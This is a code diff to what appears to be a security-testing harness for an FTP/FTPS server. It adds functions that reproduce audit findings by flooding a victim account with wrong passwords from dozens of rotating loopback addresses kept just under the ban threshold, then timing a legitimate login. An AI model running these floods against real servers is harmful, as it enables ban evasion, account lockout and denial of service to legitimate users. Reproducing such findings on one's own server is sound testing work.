@@ -279,6 +279,136 @@ def attack_1_cleartext_form(target: Target, stop: threading.Event,
     _pipelined_flood(target, stop, stats, request)
 
 
+def timed_login(target: Target, user: str, password: str, source: str,
+                context: ssl.SSLContext) -> float:
+    """
+    One implicit FTPS login from C{source}; seconds from connect to the
+    230 (raises if refused).
+    """
+    started = time.perf_counter()
+    with socket.create_connection((target.host, target.ports["ftps"]), 60,
+                                  source_address=(source, 0)) as raw:
+        with context.wrap_socket(raw) as tls:
+            stream = tls.makefile("rb")
+            if not stream.readline().startswith(b"220"):
+                raise RuntimeError("no greeting")
+            tls.sendall(f"USER {user}\r\nPASS {password}\r\n".encode())
+            stream.readline()
+            reply = stream.readline()
+            elapsed = time.perf_counter() - started
+            if not reply.startswith(b"230"):
+                raise RuntimeError(f"login refused: {reply!r}")
+            tls.sendall(b"QUIT\r\n")
+    return elapsed
+
+
+def _wave(hosts: list[str], per_host: int, send: Callable[[str, int], None]) -> list[
+        threading.Thread]:
+    """
+    C{per_host} connections from each of C{hosts} at once, each running
+    C{send(host, i)}; the threads, started.
+    """
+    threads = [threading.Thread(target=send, args=(host, i), daemon=True)
+               for host in hosts for i in range(per_host)]
+    for thread in threads:
+        thread.start()
+    return threads
+
+
+def _victim_note(stats: dict[str, Any], latencies: list[float], failed: int,
+                 what: str) -> None:
+    if latencies:
+        stats["note"] = (f"{what}: {len(latencies)} waves, victim login p50 "
+                         f"{statistics.median(latencies) * 1000:.0f} ms, max "
+                         f"{max(latencies) * 1000:.0f} ms, {failed} failed")
+    else:
+        stats["note"] = f"{what}: no wave finished ({failed} failed)"
+
+
+def attack_r3_3_cleartext_name_flood(target: Target, stop: threading.Event,
+                                  stats: dict[str, Any]) -> None:
+    """
+    Round 3, finding 3: random cleartext passwords for the victim's name,
+    4 per address from 30 addresses (under the ban) on the plain FTP port;
+    then the victim's own FTPS login (right password), timed.  Each wave
+    uses fresh addresses.
+    """
+    context = tls_context()
+    latencies: list[float] = []
+    failed = 0
+    wave = 0
+    while not stop.is_set():
+        wave += 1
+        hosts = [f"127.3.{wave % 250}.{i}" for i in range(1, 31)]
+
+        def send(host: str, i: int, wave: int = wave) -> None:
+            try:
+                with socket.create_connection((target.host, target.ports["ftp"]), 30,
+                                              source_address=(host, 0)) as conn:
+                    conn.recv(1024)
+                    conn.sendall(f"USER {VICTIM}\r\nPASS random-{wave}-{host}-{i}\r\n".encode())
+                    conn.settimeout(30)
+                    while conn.recv(1024):
+                        pass
+            except OSError:
+                pass
+
+        threads = _wave(hosts, 4, send)
+        time.sleep(0.3)  # the PASS lines are read and queued
+        try:
+            latencies.append(timed_login(target, VICTIM, VICTIM_PASSWORD,
+                                         f"127.4.{wave % 250}.1", context))
+        except (OSError, RuntimeError):
+            failed += 1
+        for thread in threads:
+            thread.join(30)
+    _victim_note(stats, latencies, failed, "120 cleartext PASS/wave")
+
+
+def attack_r3_4_guess_flood(target: Target, stop: threading.Event,
+                         stats: dict[str, Any]) -> None:
+    """
+    Round 3, finding 4: 240 wrong FTPS passwords for the victim from 60
+    addresses (4 each, under the ban), and an honest login of another
+    account (not cached: ``--login-cache-time 0``) from a fresh address in
+    the middle, timed.  Each wave uses fresh addresses.
+    """
+    context = tls_context()
+    latencies: list[float] = []
+    failed = 0
+    wave = 0
+    while not stop.is_set():
+        wave += 1
+        hosts = [f"127.5.{wave % 250}.{i}" for i in range(1, 61)]
+        sent = threading.Semaphore(0)
+
+        def send(host: str, i: int, sent: threading.Semaphore = sent) -> None:
+            try:
+                with socket.create_connection((target.host, target.ports["ftps"]), 60,
+                                              source_address=(host, 0)) as raw:
+                    with context.wrap_socket(raw) as tls:
+                        tls.recv(1024)
+                        tls.sendall(f"USER {VICTIM}\r\nPASS wrong-{i}\r\n".encode())
+                        sent.release()
+                        tls.settimeout(60)
+                        while tls.recv(1024):
+                            pass
+            except OSError:
+                sent.release()
+
+        threads = _wave(hosts, 4, send)
+        for _ in range(len(threads) // 2):  # half the flood is in
+            sent.acquire(timeout=30)
+        try:
+            latencies.append(timed_login(target, target.user, target.password,
+                                         f"127.6.{wave % 250}.1", context))
+        except (OSError, RuntimeError):
+            failed += 1
+        for thread in threads:
+            thread.join(60)
+    _victim_note(stats, latencies, failed, "240 wrong FTPS PASS/wave")
+
+
 def attack_2_bodies(target: Target, stop: threading.Event, stats: dict[str, Any]) -> None:
     """
     Issue #12.2: 128 MiB request bodies without a cookie, one after another:
@@ -384,6 +514,8 @@ ATTACKS: list[tuple[str, str, Callable[[Target, threading.Event, dict[str, Any]]
     ("2", "2 request bodies (128 MiB)", attack_2_bodies),
     ("3", "3 stalled TLS handshakes", attack_3_handshakes),
     ("5", "5 HASH of big files", attack_5_hash),
+    ("r3.3", "r3.3 cleartext PASS for one name", attack_r3_3_cleartext_name_flood),
+    ("r3.4", "r3.4 guesses from 60 addresses", attack_r3_4_guess_flood),
 ]
 
 
